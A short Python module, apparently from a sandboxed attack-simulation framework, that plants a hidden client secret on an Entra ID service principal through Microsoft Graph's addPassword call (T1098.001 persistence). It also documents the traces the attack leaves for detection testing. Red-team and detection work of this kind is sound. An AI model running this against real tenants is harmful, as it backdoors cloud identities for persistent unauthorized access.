"""Attack: a client secret on the service principal, where the application's page in the portal shows none.

Technique   T1098.001 Account Manipulation: Additional Cloud Credentials
Needs       a token of an owner of the service principal, or Application.ReadWrite.*
Leaves      one more entry in the service principal's passwordCredentials; AuditLogs "Add service principal credentials"
Source      https://stratus-red-team.cloud/attack-techniques/entra-id/entra-id.persistence.backdoor-application-sp/
"""

from sandbox.attacks.application_secret_backdoor import DISPLAY_NAME, PlantedSecret
from sandbox.attacks.attacker import Attacker, AttackFailedError


async def plant(attacker: Attacker, owner_token: str, principal: str) -> PlantedSecret:
    """Plant the secret, by the service principal's object id. Raises `AttackFailedError` where Graph refuses."""
    url = f"{attacker.endpoints['graph']}/v1.0/servicePrincipals/{principal}/addPassword"
    wish = {"passwordCredential": {"displayName": DISPLAY_NAME}}
    answer = await attacker.call("POST", url, owner_token, wish)
    if not answer.is_success:
        raise AttackFailedError(f"addPassword: {answer.status_code} {answer.text[:300]}")
    body = answer.json()
    return PlantedSecret(body["keyId"], body["secretText"])
